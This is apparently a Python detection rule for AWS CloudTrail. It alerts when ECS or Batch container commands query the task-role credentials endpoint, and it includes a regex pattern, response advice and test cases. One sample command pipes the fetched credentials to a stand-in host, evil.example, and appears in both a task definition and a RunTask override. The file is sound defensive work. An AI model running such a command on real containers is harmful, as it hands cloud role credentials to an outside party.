"""Container's command asks for the credentials of its task's role.

Programs get the role's credentials from their SDK. A command line that asks for them by address
takes them out of the container, and whoever has them is the role, from anywhere.
"""

import re
from collections.abc import Iterator

from trailwarden import Event, Example, Match, Rule, Severity, Tactic, alerts, silent
from trailwarden.cloudtrail.samples import Fields, iam_user, record
from trailwarden.cloudtrail.values import dig, listed

ENDPOINT = re.compile(
    r"169\.254\.170\.2(?!\d)(?!/v\d/(?:metadata|stats|task))"
    r"|AWS_CONTAINER_CREDENTIALS_(?:RELATIVE|FULL)_URI"
    r"|169\.254\.169\.254/latest/meta-data/iam|169\.254\.170\.23"
)


def detect(event: Event) -> Match | None:
    told = " ".join(words_of(event))
    if not ENDPOINT.search(told):
        return None
    family = event.text("requestParameters.family") or event.text(
        "requestParameters.taskDefinition"
    )
    severity = None if event.succeeded else Severity.MEDIUM
    return Match(f"{event.name} {family[-60:]}", severity=severity, subject=family)


def words_of(event: Event) -> Iterator[str]:
    """Yield the words of every command in the request, of definitions and of overrides."""
    told = "requestParameters"
    containers = [
        *event.listed(f"{told}.containerDefinitions"),
        *event.listed(f"{told}.overrides.containerOverrides"),
        *event.listed(f"{told}.containerProperties"),
        *event.listed(f"{told}.containerOverrides"),
    ]
    places = ("command", "entryPoint", "healthCheck.command")
    words = (w for c in containers for p in places for w in listed(dig(c, p)))
    return (word for word in words if isinstance(word, str))


RULE = Rule(
    __name__,
    __doc__,
    detect,
    events=[
        "batch:RegisterJobDefinition",
        "batch:SubmitJob",
        "ecs:RegisterTaskDefinition",
        "ecs:RunTask",
        "ecs:StartTask",
    ],
    severity=Severity.HIGH,
    attack={Tactic.CREDENTIAL_ACCESS: ["T1552.005"], Tactic.PERSISTENCE: ["T1525"]},
    response="Stop the tasks of this definition and revoke the sessions of its task role. Disable "
    "the credentials that registered it, and look for use of the role from outside.",
    false_positives="Start scripts that fetch credentials by themselves for an old program.",
)


def examples() -> Iterator[Example]:
    steal = "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- evil.example"
    action = "ecs:RegisterTaskDefinition"
    mallory = iam_user("mallory")
    yield alerts("in a definition", record(action, mallory, requestParameters=definition(steal)))
    overrides = {"containerOverrides": [{"name": "app", "command": ["sh", "-c", steal]}]}
    told = {"taskDefinition": "app:1", "overrides": overrides}
    yield alerts("at the start", record("ecs:RunTask", mallory, requestParameters=told))
    harmless = definition("curl 169.254.170.2/v2/metadata; exec app")
    yield silent("only metadata", record(action, mallory, requestParameters=harmless))
    proxy = definition("exec app")
    proxy["containerDefinitions"][0]["environment"] = [
        {"name": "NO_PROXY", "value": "169.254.170.2"}
    ]
    yield silent("a proxy exception", record(action, mallory, requestParameters=proxy))


def definition(script: str) -> Fields:
    container: Fields = {"name": "app", "image": "app", "entryPoint": ["sh", "-c"]}
    return {"family": "app", "containerDefinitions": [container | {"command": [script]}]}
